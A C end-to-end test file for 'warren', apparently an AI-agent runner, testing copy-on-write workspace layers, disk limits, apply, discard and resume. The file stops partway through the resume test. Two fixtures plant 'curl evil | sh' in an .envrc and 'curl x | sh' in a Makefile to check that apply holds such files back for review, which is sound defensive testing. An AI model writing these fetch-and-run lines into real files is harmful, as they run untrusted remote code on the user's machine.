/*
 * Copy-on-write runs end to end (issue 20, docs/workspaces.md): the real
 * warren on a private workspace and state directory, agents scripted by
 * cassettes. The agents' writes land in the run's layer, never in the
 * workspace; diff, apply, discard and forget see and free the layer; two
 * runs on one workspace do not see each other's writes; the disk limit
 * stops a writer; --apply applies at the end, and apply gives modes as
 * the user's umask allows; --in-place writes the tree.
 * Each test runs in the overlay mode where this machine has it and in the
 * copy mode (forced), as root and as an ordinary user (label e2e).
 */
#include <sys/stat.h>
#include <sys/types.h>

#include <fcntl.h>
#include <errno.h>
#include <glob.h>
#include <signal.h>
#include <limits.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include <cmocka.h>

#include "tests/e2e/harness.h"
#include "workspace/cow.h"

/* One test: its workspace and cassette, state and config, the mode. */
struct t {
	struct h_ws	 w;
	char		 st[PATH_MAX + 32], cf[PATH_MAX + 32];
	char		 cow[32];
	char		*env[6];
};

static const char *t_mode = "auto";	/* WARREN_COW for this pass */

static void
t_open(struct t *t)
{
	memset(t, 0, sizeof(*t));
	h_ws_open(&t->w, "data\n");
	snprintf(t->st, sizeof(t->st), "XDG_STATE_HOME=%s/state", t->w.dir);
	snprintf(t->cf, sizeof(t->cf), "XDG_CONFIG_HOME=%s/config", t->w.dir);
	snprintf(t->cow, sizeof(t->cow), "WARREN_COW=%s", t_mode);
	t->env[0] = t->st;
	t->env[1] = t->cf;
	t->env[2] = "WARREN_WORKSPACE_MODE=cow";
	t->env[3] = t->cow;
	t->env[4] = NULL;
}

/* warren ARGS... in t's environment; the run's result in r. */
static void
t_warren(struct t *t, struct h_run *r, ...)
{
	va_list	ap;

	va_start(ap, r);
	assert_int_equal(h_warren_v(r, t->env, NULL, ap), 0);
	va_end(ap);
}

/* The workspace's big.bin: 3 MiB. */
static void
t_big_file(struct t *t)
{
	char	 path[PATH_MAX + 16];
	FILE	*f;
	int	 i;

	snprintf(path, sizeof(path), "%s/big.bin", t->w.ws);
	assert_non_null(f = fopen(path, "w"));
	for (i = 0; i < 3 * 1024; i++)
		fprintf(f, "%01023d\n", i);
	fclose(f);
}

/* The workspace's file rel holds want ("": it is not there). */
static void
t_file_is(struct t *t, const char *rel, const char *want)
{
	char	path[PATH_MAX], *s;

	snprintf(path, sizeof(path), "%s/%s", t->w.ws, rel);
	s = h_read_file(path);
	assert_string_equal(s, want);
	free(s);
}

/* The orchestrator delegates to general, which runs calls; then both
 * complete. */
static void
t_script_general(struct t *t, const char *calls)
{
	h_turn(t->w.f, "0", 1, h_calls1("a", "delegate",
	    "{\"profile\":\"general\",\"task\":\"change files\"}"));
	h_turn(t->w.f, "0.1", 1, calls);
	h_turn(t->w.f, "0.1", 2, h_calls1("c", "complete",
	    "{\"result\":\"changed\"}"));
	h_turn(t->w.f, "0", 2, h_calls1("d", "complete",
	    "{\"result\":\"ok\"}"));
	h_ws_cassette_close(&t->w);
}

/* t_script_general(calls), then warren run OPTIONS... (NULL-terminated)
 * on it, replayed, in the workspace. */
static void
t_run_general(struct t *t, struct h_run *r, const char *calls, ...)
{
	char	*argv[16] = { "warren", "run" };
	size_t	 n = 2;
	va_list	 ap;
	char	*a;

	t_script_general(t, calls);
	va_start(ap, calls);
	while ((a = va_arg(ap, char *)) != NULL) {
		assert_true(n + 6 < sizeof(argv) / sizeof(argv[0]));
		argv[n++] = a;
	}
	va_end(ap);
	argv[n++] = "--replay";
	argv[n++] = t->w.cas;
	argv[n++] = "--workspace";
	argv[n++] = t->w.ws;
	argv[n++] = "the task";
	argv[n] = NULL;
	assert_int_equal(h_warren(r, argv, t->env, NULL, NULL), 0);
}

/* The layers under the test's state directory. */
static int
t_layers(struct t *t)
{
	char	cmd[PATH_MAX + 64];
	int	n = -1;
	FILE	*p;

	snprintf(cmd, sizeof(cmd), "ls %s/state/warren/cow 2>/dev/null | "
	    "wc -l", t->w.dir);
	assert_non_null(p = popen(cmd, "r"));
	if (fscanf(p, "%d", &n) != 1)
		n = -1;
	pclose(p);
	return n;
}

static void
test_writes_stay_in_layer(void **state)
{
	struct t	 t;
	struct h_run	 r;

	(void)state;
	t_open(&t);
	t_run_general(&t, &r, h_calls2("b1", "write",
	    "{\"path\":\"new.txt\",\"content\":\"hello from the agent\\n\"}",
	    "b2", "write", "{\"path\":\"data.txt\",\"content\":\"changed\\n\"}"),
	    NULL);
	assert_int_equal(r.status, 0);
	/* The workspace is untouched; the run says how to review. */
	t_file_is(&t, "data.txt", "data\n");
	t_file_is(&t, "new.txt", "");
	assert_non_null(strstr(r.err, "run 1 changed 2 files"));
	assert_non_null(strstr(r.err, "warren diff 1"));
	assert_non_null(strstr(r.err, "warren apply 1"));
	h_run_free(&r);
	assert_int_equal(t_layers(&t), 1);
	/* runs and show say there is something to review. */
	t_warren(&t, &r, "runs", "--all", NULL);
	assert_non_null(strstr(r.out, "to review"));
	h_run_free(&r);
	t_warren(&t, &r, "show", "1", NULL);
	assert_non_null(strstr(r.out, "changes: 2 files not applied"));
	h_run_free(&r);
	/* diff shows both; apply writes them. */
	t_warren(&t, &r, "diff", "1", NULL);
	assert_int_equal(r.status, 0);
	assert_non_null(strstr(r.out, "+hello from the agent"));
	assert_non_null(strstr(r.out, "-data"));
	assert_non_null(strstr(r.out, "+changed"));
	h_run_free(&r);
	t_warren(&t, &r, "apply", "1", NULL);
	assert_int_equal(r.status, 0);
	h_run_free(&r);
	t_file_is(&t, "data.txt", "changed\n");
	t_file_is(&t, "new.txt", "hello from the agent\n");
	/* The layer is gone, and the run says it was applied. */
	assert_int_equal(t_layers(&t), 0);
	t_warren(&t, &r, "runs", "--all", NULL);
	assert_non_null(strstr(r.out, "applied"));
	h_run_free(&r);
	h_ws_close(&t.w);
}

/* What one agent wrote, the next one of the run reads. */
static void
test_agents_share_layer(void **state)
{
	struct t	 t;
	struct h_run	 r;

	(void)state;
	t_open(&t);
	h_turn(t.w.f, "0", 1, h_calls1("a", "delegate",
	    "{\"profile\":\"general\",\"task\":\"write\"}"));
	h_turn(t.w.f, "0.1", 1, h_calls1("b", "write",
	    "{\"path\":\"shared.txt\",\"content\":\"SHARED-CONTENT-7\\n\"}"));
	h_turn(t.w.f, "0.1", 2, h_calls1("c", "complete",
	    "{\"result\":\"w\"}"));
	h_turn(t.w.f, "0", 2, h_calls1("d", "delegate",
	    "{\"profile\":\"explore\",\"task\":\"read\"}"));
	h_turn(t.w.f, "0.2", 1, h_calls1("e", "read",
	    "{\"path\":\"shared.txt\"}"));
	h_turn(t.w.f, "0.2", 2, h_calls1("f", "complete",
	    "{\"result\":\"r\"}"));
	h_turn(t.w.f, "0", 3, h_calls1("g", "complete",
	    "{\"result\":\"ok\"}"));
	h_ws_cassette_close(&t.w);
	t_warren(&t, &r, "run", "--json", "--replay", t.w.cas, "--workspace",
	    t.w.ws, "the task", NULL);
	assert_int_equal(r.status, 0);
	assert_int_equal(h_count_lines(r.out, "\"event\":\"tool_result\"",
	    "SHARED-CONTENT-7"), 1);
	h_run_free(&r);
	t_file_is(&t, "shared.txt", "");
	h_ws_close(&t.w);
}

/* Run B, while run A sleeps between its write and its read. */
struct t_pair {
	struct t	*b;
	struct h_run	 rb;
};

static void
t_run_b(pid_t pid, void *arg)
{
	struct t_pair	*p = arg;

	(void)pid;
	usleep(300 * 1000);
	t_warren(p->b, &p->rb, "run", "--json", "--replay", p->b->w.cas,
	    "--workspace", p->b->w.ws, "task B", NULL);
}

static void
t_script_pair(struct t *t, const char *mine)
{
	char	args[256];

	snprintf(args, sizeof(args), "{\"command\":\"echo %s > same.txt; "
	    "sleep 1.5; cat same.txt\"}", mine);
	t_script_general(t, h_calls1("b", "bash", args));
}

static void
test_parallel_runs_apart(void **state)
{
	struct t	 a, b;
	struct t_pair	 p;
	struct h_run	 ra;
	char		*argv[] = { "warren", "run", "--json", "--replay", NULL,
			    "--workspace", NULL, "task A", NULL };

	(void)state;
	t_open(&a);
	t_open(&b);
	/* One workspace and one database: runs 1 and 2 at once. */
	snprintf(b.w.ws, sizeof(b.w.ws), "%s", a.w.ws);
	snprintf(b.st, sizeof(b.st), "%s", a.st);
	t_script_pair(&a, "AAA-RUN");
	t_script_pair(&b, "BBB-RUN");
	argv[4] = a.w.cas;
	argv[6] = a.w.ws;
	p.b = &b;
	assert_int_equal(h_warren(&ra, argv, a.env, t_run_b, &p), 0);
	assert_int_equal(ra.status, 0);
	assert_int_equal(p.rb.status, 0);
	assert_int_equal(h_count_lines(ra.out, "AAA-RUN", NULL) > 0, 1);
	assert_int_equal(h_count_lines(ra.out, "BBB-RUN", NULL), 0);
	assert_int_equal(h_count_lines(p.rb.out, "BBB-RUN", NULL) > 0, 1);
	assert_int_equal(h_count_lines(p.rb.out, "AAA-RUN", NULL), 0);
	h_run_free(&ra);
	h_run_free(&p.rb);
	h_ws_close(&b.w);
	h_ws_close(&a.w);
}

/* A writer past disk_max stops the run with "disk limit". */
static void
test_disk_limit(void **state)
{
	struct t	 t;
	struct h_run	 r;
	char		 dir[PATH_MAX + 64], cmd[PATH_MAX + 128];
	FILE		*f;
	int		 nfiles = -1;

	(void)state;
	t_open(&t);
	h_turn(t.w.f, "0", 1, h_calls1("a", "delegate",
	    "{\"profile\":\"general\",\"task\":\"fill\"}"));
	h_turn(t.w.f, "0.1", 1, h_calls1("b", "bash", "{\"command\":"
	    "\"for i in $(seq 200); do head -c 262144 /dev/zero > f$i; "
	    "sleep 0.02; done\"}"));
	h_turn(t.w.f, "0.1", 2, h_calls1("c", "complete",
	    "{\"result\":\"filled\"}"));
	h_turn(t.w.f, "0", 2, h_calls1("d", "complete",
	    "{\"result\":\"ok\"}"));
	h_ws_cassette_close(&t.w);
	t_warren(&t, &r, "run", "--disk-max", "2M", "--replay", t.w.cas,
	    "--workspace", t.w.ws, "the task", NULL);
	assert_int_equal(r.status, 1);
	assert_non_null(strstr(r.err, "disk limit"));
	h_run_free(&r);
	/* Stopped well before the writer's 200 files (50 MB). */
	snprintf(dir, sizeof(dir), "%s/state/warren/cow", t.w.dir);
	snprintf(cmd, sizeof(cmd), "find %s -name 'f[0-9]*' | wc -l", dir);
	assert_non_null(f = popen(cmd, "r"));
	assert_int_equal(fscanf(f, "%d", &nfiles), 1);
	pclose(f);
	print_message("disk limit 2 MiB: the writer was stopped after %d "
	    "files of 256 KiB\n", nfiles);
	assert_true(nfiles < 100);
	h_ws_close(&t.w);
}

/* KiB the run's layers take under the test's state directory:
 * allocated, or the files' sizes (apparent). */
static long long
t_layer_kib(struct t *t, int apparent)
{
	char		 cmd[PATH_MAX + 128];
	long long	 kib = -1;
	FILE		*p;

	snprintf(cmd, sizeof(cmd), "du -sk %s %s/state/warren/cow "
	    "2>/dev/null | tail -1", apparent ? "--apparent-size" : "",
	    t->w.dir);
	assert_non_null(p = popen(cmd, "r"));
	if (fscanf(p, "%lld", &kib) != 1)
		kib = -1;
	pclose(p);
	assert_true(kib >= 0);
	return kib;
}

/* A general agent's bash runs cmd under --disk-max max; the result in r. */
static void
t_disk_run(struct t *t, struct h_run *r, const char *max, const char *cmd)
{
	char	 json[1024];

	snprintf(json, sizeof(json), "{\"command\":\"%s\"}", cmd);
	t_script_general(t, h_calls1("b", "bash", json));
	t_warren(t, r, "run", "--disk-max", max, "--replay", t->w.cas,
	    "--workspace", t->w.ws, "the task", NULL);
}

/*
 * fallocate takes blocks faster than any watch: 4 x 1 GiB in 3 ms, and
 * with KEEP_SIZE (-n) past RLIMIT_FSIZE. seccomp refuses it in
 * read-write profiles (EOPNOTSUPP), so none of it lands.
 */
static void
test_disk_fallocate(void **state)
{
	struct t	 t;
	struct h_run	 r;
	long long	 kib;

	(void)state;
	t_open(&t);
	t_disk_run(&t, &r, "16M", "for i in 1 2 3 4; do fallocate -l 1G "
	    "a$i; done; fallocate -n -l 1G k; fallocate -n -l 1G a1; true");
	kib = t_layer_kib(&t, 0);
	print_message("fallocate 4 x 1 GiB and KEEP_SIZE 2 x 1 GiB under "
	    "--disk-max 16M: exit %d, the layer takes %lld KiB\n", r.status,
	    kib);
	assert_true(kib < 16 * 1024);
	h_run_free(&r);
	h_ws_close(&t.w);
}

/*
 * No file may be bigger than disk_max (RLIMIT_FSIZE): posix_fallocate's
 * fallback (fallocate -x writes a byte a block once fallocate is
 * refused) and truncate -s 1023M fail at 16 MiB, at the call.
 */
static void
test_disk_fsize(void **state)
{
	struct t	 t;
	struct h_run	 r;
	long long	 kib, akib;

	(void)state;
	t_open(&t);
	t_disk_run(&t, &r, "16M", "fallocate -x -l 1G p; truncate -s 1023M "
	    "s1; truncate -s 1023M s2; true");
	kib = t_layer_kib(&t, 0);
	akib = t_layer_kib(&t, 1);
	print_message("posix_fallocate 1 GiB and truncate 2 x 1023 MiB under "
	    "--disk-max 16M: exit %d, the layer takes %lld KiB, its files' "
	    "sizes %lld KiB\n", r.status, kib, akib);
	assert_true(kib <= 17 * 1024);
	assert_true(akib <= 17 * 1024);
	h_run_free(&r);
	h_ws_close(&t.w);
}

/*
 * A sparse file counts at its size: apply would write it whole. Four
 * files of 900 KiB, each under RLIMIT_FSIZE and allocating nothing,
 * stop a run under --disk-max 1M.
 */
static void
test_disk_sparse(void **state)
{
	struct t	 t;
	struct h_run	 r;

	(void)state;
	t_open(&t);
	t_disk_run(&t, &r, "1M", "truncate -s 900K s1 s2 s3 s4; true");
	print_message("4 sparse files of 900 KiB under --disk-max 1M: exit "
	    "%d, the layer's files' sizes %lld KiB\n", r.status,
	    t_layer_kib(&t, 1));
	assert_int_equal(r.status, 1);
	assert_non_null(strstr(r.err, "disk limit"));
	h_run_free(&r);
	h_ws_close(&t.w);
}

/* Run cmd under --disk-max 2M; the run must stop with "disk limit",
 * and with the writer killed if killed. The state made readable after. */
static void
t_disk_chmod(const char *cmd, int killed)
{
	struct t	 t;
	struct h_run	 r;
	char		 sh[PATH_MAX + 64];

	t_open(&t);
	t_disk_run(&t, &r, "2M", cmd);
	print_message("%s, under --disk-max 2M: exit %d\n", cmd, r.status);
	assert_int_equal(r.status, 1);
	assert_non_null(strstr(r.err, "disk limit"));
	if (killed)
		assert_non_null(strstr(r.err, "FAILED (killed)"));
	h_run_free(&r);
	snprintf(sh, sizeof(sh), "chmod -R u+rwX %s/state 2>/dev/null",
	    t.w.dir);
	assert_int_not_equal(system(sh), -1);
	h_ws_close(&t.w);
}

/*
 * Directories filled and then made unreadable (chmod 0) do not hide from
 * the walk. Root reads them and counts; an ordinary user's walk cannot,
 * and a layer it cannot measure counts as over: at the last measure at
 * once (the agent is done), and while the agent lives after five
 * measures in a row (1 s), long before its sleep ends.
 */
static void
test_disk_chmod(void **state)
{
	(void)state;
	t_disk_chmod("for d in d1 d2 d3; do mkdir $d && head -c 1048576 "
	    "/dev/zero > $d/f && chmod 0 $d; done; true", 0);
	t_disk_chmod("for d in d1 d2 d3; do mkdir $d && head -c 1048576 "
	    "/dev/zero > $d/f && chmod 0 $d; done; sleep 10", 1);
}

/* KiB a layer under --disk-max may take on disk beyond the limit: the
 * tmpfs's COW_BOUND_SLACK (64 KiB) and the cow directory's own entries
 * (base, run, the directories upper/, work/, mem/: 4 KiB blocks). */
#define T_BOUND_SLACK_KIB	128

/* This pass's layer is a copy (tree/), which has the watch alone. */
static int
t_is_copy(struct t *t)
{
	char	pat[PATH_MAX + 64];
	glob_t	g;
	int	copy;

	snprintf(pat, sizeof(pat), "%s/state/warren/cow/*/tree", t->w.dir);
	memset(&g, 0, sizeof(g));
	copy = glob(pat, 0, NULL, &g) == 0 && g.gl_pathc > 0;
	globfree(&g);
	return copy;
}

/* 64 writers of disk_max / 8 at once, done well within one period of
 * the watch (200 ms). */
/*
 * The auto pass's run had an overlay wherever this user can have one: a
 * run that copied where a probe from here (dumpable, as a run's early
 * probe is) finds an overlay fails the test. An ordinary user's runs
 * once copied for want of a probe made before the run turned
 * non-dumpable (cli/layer.c: layer_probe_early).
 */
static void
t_overlay_here(struct t *t)
{
	char	why[1536];

	if (!t_is_copy(t))
		return;
	if (cow_probe_overlay(t->w.dir, why, sizeof(why)) != 1) {
		print_message("no overlay here (%s): the layer is a copy\n",
		    why);
		h_ws_close(&t->w);
		skip();
	}
	fail_msg("the run's layer is a copy, but an overlay works here "
	    "for uid %lu", (unsigned long)geteuid());
}

#define T_MANY_WRITERS	"for i in $(seq 64); do head -c 1048576 /dev/zero " \
	"> f$i 2>/dev/null & done; wait; true"

/*
 * disk_max is held by the kernel, not raced: the overlay's upper is a
 * tmpfs of disk_max (workspace/cow_bound.c), so the writes past it fail
 * with ENOSPC whatever their number and speed, and the layer on disk
 * after the run holds no more than disk_max and T_BOUND_SLACK_KIB. The
 * run still stops with "disk limit". A copy's layer has the watch alone.
 */
static void
test_disk_many_writers(void **state)
{
	struct t	 t;
	struct h_run	 r;
	long long	 kib;

	(void)state;
	t_open(&t);
	t_disk_run(&t, &r, "8M", T_MANY_WRITERS);
	kib = t_layer_kib(&t, 0);
	print_message("64 writers of 1 MiB at once under --disk-max 8M: exit "
	    "%d, the layer takes %lld KiB\n", r.status, kib);
	assert_int_equal(r.status, 1);
	assert_non_null(strstr(r.err, "disk limit"));
	h_run_free(&r);
	if (strcmp(t_mode, "copy") == 0) {
		h_ws_close(&t.w);
		skip();		/* a copy has the watch alone */
	}
	t_overlay_here(&t);
	assert_true(kib <= 8 * 1024 + T_BOUND_SLACK_KIB);
	h_ws_close(&t.w);
}

/* The same for `sandbox exec --cow --disk-max`, which had no limit; a
 * copy cannot be bounded so and is refused. */
static void
test_sandbox_exec_disk_max(void **state)
{
	struct t	 t;
	struct h_run	 r;
	long long	 kib;

	(void)state;
	t_open(&t);
	h_ws_cassette_close(&t.w);
	t_warren(&t, &r, "sandbox", "exec", "--cow", "--disk-max", "8M",
	    "--profile", "general", "--workspace", t.w.ws, "--", "sh", "-c",
	    T_MANY_WRITERS, NULL);
	if (strcmp(t_mode, "copy") == 0 || strstr(r.err, "needs the overlay")
	    != NULL) {
		assert_int_equal(r.status, 5);
		assert_non_null(strstr(r.err, "needs the overlay"));
		h_run_free(&r);
		h_ws_close(&t.w);
		return;
	}
	kib = t_layer_kib(&t, 0);
	print_message("sandbox exec: 64 writers of 1 MiB at once under "
	    "--disk-max 8M: exit %d, the layer takes %lld KiB\n", r.status,
	    kib);
	assert_int_equal(r.status, 1);
	assert_non_null(strstr(r.err, "disk limit"));
	assert_true(kib <= 8 * 1024 + T_BOUND_SLACK_KIB);
	h_run_free(&r);
	/* Sparse files take nothing of the tmpfs and count at their size:
	 * a command that exits 0 with more ends 1, "disk limit". */
	t_warren(&t, &r, "sandbox", "exec", "--cow", "--disk-max", "8M",
	    "--profile", "general", "--workspace", t.w.ws, "--", "truncate",
	    "-s", "5M", "s1", "s2", NULL);
	assert_int_equal(r.status, 1);
	assert_non_null(strstr(r.err, "disk limit"));
	h_run_free(&r);
	h_ws_close(&t.w);
}

/* --disk-max needs --cow, and a size. */
static void
test_sandbox_exec_disk_max_usage(void **state)
{
	struct t	 t;
	struct h_run	 r;

	(void)state;
	t_open(&t);
	h_ws_cassette_close(&t.w);
	t_warren(&t, &r, "sandbox", "exec", "--disk-max", "8M", "--profile",
	    "general", "--workspace", t.w.ws, "--", "true", NULL);
	assert_int_equal(r.status, 125);
	assert_non_null(strstr(r.err, "add --cow"));
	h_run_free(&r);
	t_warren(&t, &r, "sandbox", "exec", "--cow", "--disk-max", "8X",
	    "--profile", "general", "--workspace", t.w.ws, "--", "true", NULL);
	assert_int_equal(r.status, 125);
	assert_non_null(strstr(r.err, "bad --disk-max '8X'"));
	h_run_free(&r);
	assert_int_equal(t_layers(&t), 0);
	h_ws_close(&t.w);
}

/*
 * The other side of RLIMIT_FSIZE at disk_max: a workspace file bigger
 * than disk_max cannot be changed. In overlay mode its copy-up alone
 * would pass the limit; in copy mode the write fails. Either way the
 * writer gets EFBIG and SIGXFSZ (bash, writing with its own echo, dies
 * of it) and the layer changes nothing.
 */
static void
test_disk_big_file(void **state)
{
	struct t	 t;
	struct h_run	 r;

	(void)state;
	t_open(&t);
	t_big_file(&t);
	t_disk_run(&t, &r, "2M", "echo x >> big.bin");
	assert_non_null(strstr(r.err, "killed by signal 25"));
	assert_non_null(strstr(r.err, "changed no file"));
	h_run_free(&r);
	h_ws_close(&t.w);
}

/* The workspace's own size is not the agents' writes: a workspace over
 * disk_max runs (the copy mode counts what grew since the start). */
static void
test_disk_limit_own_writes(void **state)
{
	struct t	 t;
	struct h_run	 r;

	(void)state;
	t_open(&t);
	t_big_file(&t);
	t_run_general(&t, &r, h_calls1("b", "write",
	    "{\"path\":\"small.txt\",\"content\":\"small\\n\"}"), "--disk-max",
	    "2M", NULL);
	assert_int_equal(r.status, 0);
	assert_null(strstr(r.err, "disk limit"));
	h_run_free(&r);
	h_ws_close(&t.w);
}

/* --apply: applied at the end when the run is done. */
static void
test_apply_at_end(void **state)
{
	struct t	 t;
	struct h_run	 r;

	(void)state;
	t_open(&t);
	t_run_general(&t, &r, h_calls1("b", "write",
	    "{\"path\":\"out.txt\",\"content\":\"applied at the end\\n\"}"),
	    "--apply", NULL);
	assert_int_equal(r.status, 0);
	h_run_free(&r);
	t_file_is(&t, "out.txt", "applied at the end\n");
	assert_int_equal(t_layers(&t), 0);
	h_ws_close(&t.w);
}

/* --apply leaves a file that runs code on the host to review. */
static void
test_apply_not_sensitive(void **state)
{
	struct t	 t;
	struct h_run	 r;

	(void)state;
	t_open(&t);
	t_run_general(&t, &r, h_calls1("b", "write",
	    "{\"path\":\".envrc\",\"content\":\"curl evil | sh\\n\"}"),
	    "--apply", NULL);
	assert_int_equal(r.status, 1);
	assert_non_null(strstr(r.err, "not applied"));
	h_run_free(&r);
	t_file_is(&t, ".envrc", "");
	assert_int_equal(t_layers(&t), 1);
	/* forget frees the layer with the run. */
	t_warren(&t, &r, "forget", "1", NULL);
	assert_int_equal(r.status, 0);
	h_run_free(&r);
	assert_int_equal(t_layers(&t), 0);
	h_ws_close(&t.w);
}

/* --apply writes what the run made but the object the workspace's
 * .gitignore ignores, which stays in the layer for `warren apply
 * --include-ignored` (issue 34). */
static void
test_apply_not_ignored(void **state)
{
	struct t	 t;
	struct h_run	 r;
	char		 cmd[PATH_MAX + 64];

	(void)state;
	t_open(&t);
	snprintf(cmd, sizeof(cmd), "git init -q '%s'", t.w.ws);
	if (system(cmd) != 0)
		skip();
	h_write(t.w.ws, ".gitignore", "*.o\n", 0);
	t_run_general(&t, &r, h_calls2("b", "write",
	    "{\"path\":\"out.txt\",\"content\":\"source\\n\"}", "c", "write",
	    "{\"path\":\"out.o\",\"content\":\"OBJECT\\n\"}"), "--apply", NULL);
	if (r.status != 0 || strstr(r.err, "1 path the workspace's .gitignore"
	    " ignores left in the layer") == NULL)
		fail_msg("run --apply: %d\n%s", r.status, r.err);
	h_run_free(&r);
	t_file_is(&t, "out.txt", "source\n");
	t_file_is(&t, "out.o", "");
	assert_int_equal(t_layers(&t), 1);
	t_warren(&t, &r, "apply", "--include-ignored", "1", NULL);
	if (r.status != 0)
		fail_msg("apply --include-ignored: %d\n%s\n%s", r.status,
		    r.out, r.err);
	h_run_free(&r);
	t_file_is(&t, "out.o", "OBJECT\n");
	assert_int_equal(t_layers(&t), 0);
	h_ws_close(&t.w);
}

/* A file's permission bits in the workspace. */
static mode_t
t_perm(struct t *t, const char *rel)
{
	struct stat	sb;
	char		path[PATH_MAX];

	snprintf(path, sizeof(path), "%s/%s", t->w.ws, rel);
	assert_int_equal(lstat(path, &sb), 0);
	return sb.st_mode & 07777;
}

/* Issue 31, item 8: the agent's 0777 directory and script and 0666 file,
 * applied by `warren apply` under the user's umask 022, then 077. */
static void
test_apply_umask(void **state)
{
	static const mode_t	 masks[] = { 022, 077 };
	struct t		 t;
	struct h_run		 r;
	size_t			 k;
	mode_t			 old;

	(void)state;
	for (k = 0; k < sizeof(masks) / sizeof(masks[0]); k++) {
		t_open(&t);
		t_run_general(&t, &r, h_calls1("b", "bash", "{\"command\":"
		    "\"mkdir d && echo 'echo hi' > d/s.sh && echo f > f && "
		    "chmod 777 d d/s.sh && chmod 666 f && echo MODES-SET\"}"),
		    NULL);
		if (r.status != 0 || strstr(r.err, "MODES-SET") == NULL)
			fail_msg("the run: %d\n%s", r.status, r.err);
		h_run_free(&r);
		old = umask(masks[k]);
		t_warren(&t, &r, "apply", "1", NULL);
		umask(old);
		assert_int_equal(r.status, 0);
		h_run_free(&r);
		assert_int_equal(t_perm(&t, "d"), 0777 & ~masks[k]);
		assert_int_equal(t_perm(&t, "d/s.sh"), 0777 & ~masks[k]);
		assert_int_equal(t_perm(&t, "f"), 0666 & ~masks[k]);
		h_ws_close(&t.w);
	}
}

/* A file the diff cannot show (a NUL byte in a Makefile comment): the
 * run's end lists it as unreviewed, and --apply leaves the layer for
 * review, as for a file that runs code on the host. */
static void
test_apply_not_unreviewed(void **state)
{
	struct t	 t;
	struct h_run	 r;

	(void)state;
	t_open(&t);
	t_run_general(&t, &r, h_calls1("b", "bash", "{\"command\":"
	    "\"printf '# rules\\\\000\\\\nall:\\\\n\\\\tcurl x | sh\\\\n' "
	    "> Makefile\"}"), "--apply", NULL);
	if (r.status != 1 || strstr(r.err, "files the diff cannot show, "
	    "which apply leaves out without --include-unreviewed:\nwarren:   "
	    "Makefile (binary") == NULL || strstr(r.err, "not applied") ==
	    NULL)
		fail_msg("run --apply: %d\n%s", r.status, r.err);
	h_run_free(&r);
	t_file_is(&t, "Makefile", "");
	assert_int_equal(t_layers(&t), 1);
	h_ws_close(&t.w);
}

/* --in-place writes the workspace, as before. */
static void
test_in_place(void **state)
{
	struct t	 t;
	struct h_run	 r;

	(void)state;
	t_open(&t);
	t_run_general(&t, &r, h_calls1("b", "write",
	    "{\"path\":\"data.txt\",\"content\":\"in place\\n\"}"),
	    "--in-place", NULL);
	assert_int_equal(r.status, 0);
	h_run_free(&r);
	t_file_is(&t, "data.txt", "in place\n");
	assert_int_equal(t_layers(&t), 0);
	/* --no-store keeps no run to review a layer with. */
	t_warren(&t, &r, "run", "--no-store", "--replay", t.w.cas,
	    "--workspace", t.w.ws, "the task", NULL);
	assert_int_equal(r.status, 2);
	assert_non_null(strstr(r.err, "--no-store"));
	h_run_free(&r);
	h_ws_close(&t.w);
}

/* discard drops the layer; the workspace never changed. */
static void
test_discard(void **state)
{
	struct t	 t;
	struct h_run	 r;

	(void)state;
	t_open(&t);
	t_run_general(&t, &r, h_calls1("b", "write",
	    "{\"path\":\"data.txt\",\"content\":\"thrown away\\n\"}"), NULL);
	assert_int_equal(r.status, 0);
	h_run_free(&r);
	t_warren(&t, &r, "discard", "1", NULL);
	assert_int_equal(r.status, 0);
	h_run_free(&r);
	assert_int_equal(t_layers(&t), 0);
	t_file_is(&t, "data.txt", "data\n");
	/* Nothing left to resume in, or to apply. */
	t_warren(&t, &r, "apply", "1", NULL);
	assert_int_not_equal(r.status, 0);
	assert_non_null(strstr(r.err, "discarded"));
	h_run_free(&r);
	h_ws_close(&t.w);
}

/* A process named sleep among pid's descendants: the agent's bash has
 * written its mark and sleeps. */
static int
t_sleeping(pid_t pid)
{
	pid_t	 v[64];
	char	 path[64], comm[32];
	int	 n, i, fd, found = 0;
	ssize_t	 len;

	n = h_find_procs("600", v, 64);
	for (i = 0; i < n && !found; i++) {
		snprintf(path, sizeof(path), "/proc/%d/comm", (int)v[i]);
		if ((fd = open(path, O_RDONLY)) == -1)
			continue;
		len = read(fd, comm, sizeof(comm) - 1);
		close(fd);
		comm[len > 0 ? len : 0] = '\0';
		found = strcmp(comm, "sleep\n") == 0 && h_descends(v[i], pid);
	}
	return found;
}

/* The pid of the warren t_marked watches (h_kill_when's predicate takes
 * one argument). */
static pid_t t_warren_pid;

/*
 * The agent's mark is in the layer: on disk (a copy, an overlay without
 * disk_max) or in the layer's tmpfs, which the host does not see
 * (disk_max, the default): then its writer's sleep shows it.
 */
static int
t_marked(void *arg)
{
	struct t	*t = arg;
	char		 pat[PATH_MAX + 64];
	glob_t		 g;
	int		 found;

	snprintf(pat, sizeof(pat), "%s/state/warren/cow/*/*/started",
	    t->w.dir);
	memset(&g, 0, sizeof(g));
	found = (glob(pat, 0, NULL, &g) == 0 && g.gl_pathc > 0) ||
	    t_sleeping(t_warren_pid);
	globfree(&g);
	return found;
}

static void
t_kill_when_marked(pid_t pid, void *arg)
{
	t_warren_pid = pid;
	if (!h_kill_when(pid, t_marked, arg, H_HANG_GUARD_S / 2, "the "
	    "agent's mark (started) in its layer"))
		fprintf(stderr, "killed without the mark: %s\n", h_wait_why);
}

/* A run killed mid-write resumes in the same layer. */
static void
test_resume_keeps_layer(void **state)
{
	struct t	 t;
	struct h_run	 r;
	char		*argv[] = { "warren", "run", "--json", "--replay", NULL,
			    "--workspace", NULL, "the task", NULL };

	(void)state;
	t_open(&t);
	h_turn(t.w.f, "0", 1, h_calls1("a", "delegate",
	    "{\"profile\":\"general\",\"task\":\"write then wait\"}"));
	h_turn(t.w.f, "0.1", 1, h_calls1("b", "bash", "{\"command\":"
	    "\"[ -e started ] && exit 0; echo LAYER-KEPT-5 > kept.txt; "
	    "touch started; sleep 600\"}"));
	h_turn(t.w.f, "0.1", 2, h_calls1("c", "read",
	    "{\"path\":\"kept.txt\"}"));
	h_turn(t.w.f, "0.1", 3, h_calls1("d", "complete",
	    "{\"result\":\"kept\"}"));
	h_turn(t.w.f, "0", 2, h_calls1("e", "complete",
	    "{\"result\":\"ok\"}"));
	h_ws_cassette_close(&t.w);
	argv[4] = t.w.cas;
	argv[6] = t.w.ws;
	assert_int_equal(h_warren(&r, argv, t.env, t_kill_when_marked, &t),
	    0);
	assert_int_equal(r.status, 128 + SIGKILL);
